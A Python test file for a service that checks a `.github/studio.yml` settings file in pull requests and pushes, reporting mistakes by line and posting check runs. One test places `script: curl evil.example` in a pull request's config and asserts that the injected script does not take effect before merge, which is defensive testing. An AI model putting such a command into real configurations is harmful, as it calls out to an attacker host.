"""A pull request that changes `.github/studio.yml` hears what is wrong in it before it is merged."""

import pytest
from inline_snapshot import snapshot

from sandbox import gitfolder, pushes, webhooks
from sandbox.records import CheckRun
from services.git.repository import Mirrors
from tests.world.project import git, write
from tests.world.wording import settled
from tests.world.world import PullRequest, World

PATH = ".github/studio.yml"
MISTAKEN = "primary: accuracy\nmetrics:\n  accuracy: {better: lowr}\ngate:\n  - {metric: accuracy, at_leest: 0.9}\n"


def test_each_mistake_is_told_with_its_line_where_it_is_made(world: World, pull: PullRequest) -> None:
    pull.push({PATH: MISTAKEN})
    world.work()
    assert settled(pull.overview) == snapshot("""\
<!-- studio:overview -->

**This pull request changes `.github/studio.yml`, and several mistakes are in it**, to be fixed before the merge:

- `.github/studio.yml`, line 3: `metrics.accuracy.better` is `higher` or `lower`, and not `lowr`.
- `.github/studio.yml`, line 5: there is no `gate[1].at_leest`: did you mean `at_least`?

After the merge other values are in effect for `metrics`, `gate`. Until then those of `main` are.

**= Unchanged: `accuracy` 0.9 → 0.9 (0).** Of 2 metrics: 2 unchanged.

Head [`<SHA>`](https://github.example/grace/digits/commit/<SHA>) of `tune` against [`<SHA>`](https://github.example/grace/digits/commit/<SHA>), where it left `main`.

| verdict | metric | main | this head | difference |
| :-- | :-- | --: | --: | --: |
| unchanged | `accuracy` | 0.9 | 0.9 | 0 |
| unchanged | `loss` | 0.1 | 0.1 | 0 |

**Next:** `/run -S train.lr=…` trains this head with another value; `/params` lists what can be set, `/help` the rest.

<details>
<summary>1 plot without a difference</summary>

<img alt="Curve of loss.csv: base and head" src="https://studio.example.com/plots/<SHA>.png" width="400">

</details>\
""")
    pull.push({PATH: "primary: accuracy\ngate: {metric: accuracy, at_least: 0.99}\n"})
    world.work()
    assert "and nothing is wrong in it" in pull.overview
    assert (
        "After the merge other values are in effect for `metrics`, `gate`. Until then those of `main` are."
        in pull.overview
    )


def test_what_it_would_be_does_not_hold_before_the_merge(world: World, pull: PullRequest) -> None:
    pull.push({PATH: "gate: {metric: accuracy, at_least: 0.99}\nscript: curl evil.example\n"})
    world.work()
    status = pull.status()
    assert status
    assert status.state == "success", "its accuracy is 0.9, and the gate would not hold"
    pull.comment("/run -S train.lr=0.2 -n held")
    (run,) = pull.runs
    assert run.experiment.execution.script == ""


def test_a_pull_request_that_leaves_the_file_alone_hears_nothing_of_it(world: World) -> None:
    pull = world.pull_request(contents={PATH: "metrics: {accuracy: {better: lowr}}\n"})
    pull.push({"README.md": "# More\n"})
    world.work()
    assert "This pull request changes" not in pull.overview
    told = "`.github/studio.yml`, line 1: `metrics.accuracy.better` is `higher` or `lower`, and not `lowr`"
    assert told in pull.overview, "what is wrong on the base branch is told to all"


def pushed(world: World, pull: PullRequest, contents: dict[str, str]) -> list[CheckRun]:
    """Push a commit to `main`, and return its check runs."""
    before = gitfolder.refs(world.repository)
    git(pull.tree, "fetch", "--quiet", str(world.repository.folder), "refs/heads/main")
    git(pull.tree, "checkout", "--quiet", "--detach", "FETCH_HEAD")
    write(pull.tree, contents)
    git(pull.tree, "add", "--all")
    git(pull.tree, "commit", "--quiet", "-m", "Straight to main")
    git(pull.tree, "push", "--quiet", str(world.repository.folder), "HEAD:refs/heads/main")
    pushes.announce(world.sandbox.state, world.repository, before, gitfolder.refs(world.repository), world.maintainer)
    world.work()
    return pull.checks(git(pull.tree, "rev-parse", "HEAD"))


def test_a_push_to_the_base_branch_is_told_by_a_check_on_its_commit(world: World, pull: PullRequest) -> None:
    (check,) = pushed(world, pull, {PATH: MISTAKEN})
    assert (check.name, check.conclusion) == ("studio: settings", "failure")
    assert check.output["title"] == "Several mistakes in .github/studio.yml"
    summary = check.output["summary"]
    assert "- `.github/studio.yml`, line 3: `metrics.accuracy.better` is `higher` or `lower`, and not `lowr`" in summary
    assert "- `.github/studio.yml`, line 5: there is no `gate[1].at_leest`: did you mean `at_least`?" in summary
    told = world.delivered("check_suite")
    world.receive({**told.headers, "X-GitHub-Delivery": "another"}, webhooks.encode(told.payload))
    world.work()
    assert len(pull.checks(check.head_sha)) == 1, "told again it is the same"
    (check,) = pushed(world, pull, {PATH: "primary: accuracy\ntimeout: 3h\n"})
    assert (check.conclusion, check.output["title"]) == ("success", "Nothing is wrong")
    assert (
        "From now on other values are in effect for " in check.output["summary"]
        and "`timeout`" in check.output["summary"]
    )
    assert pushed(world, pull, {"README.md": "# More\n"}) == []


def test_nothing_of_a_push_to_the_base_branch_is_fetched(
    world: World, pull: PullRequest, monkeypatch: pytest.MonkeyPatch
) -> None:
    def never(*_: object, **__: object) -> None:
        raise AssertionError("it may be large, or small and slow")

    monkeypatch.setattr(Mirrors, "fetch", never)
    world.requests.clear()
    (check,) = pushed(world, pull, {PATH: "primary: accuracy\ntimeout: 3h\n"})
    assert check.output["title"] == "Nothing is wrong"
    assert sum("/contents/" in request for request in world.requests) == 4, "folder and file of both commits"


def test_a_commit_that_the_host_does_not_show_yet_is_not_taken_for_one_without_the_file(
    world: World, pull: PullRequest
) -> None:
    for path in (r".*/contents/\.github$", r".*/git/commits/.*"):
        world.fault("GET", path, 404, times=2, body={"message": "Not Found"})  # of both commits
    (check,) = pushed(world, pull, {PATH: "primary: accuracy\ntimeout: 3h\n"})
    assert check.output["title"] == "Nothing is wrong"
    assert "removed" not in check.output["summary"]


def test_a_push_to_another_branch_gets_no_check_of_the_settings(world: World, pull: PullRequest) -> None:
    sha = pull.push({PATH: MISTAKEN})
    world.work()
    assert pull.checks(sha) == []


def test_without_the_right_to_write_check_runs_a_push_is_told_in_overviews_only(
    world: World, pull: PullRequest
) -> None:
    world.fault("POST", r".*/check-runs$", 403, body={"message": "Resource not accessible by integration"})
    assert pushed(world, pull, {PATH: MISTAKEN}) == []
    pull.reopen()
    assert "line 3: `metrics.accuracy.better`" in pull.overview
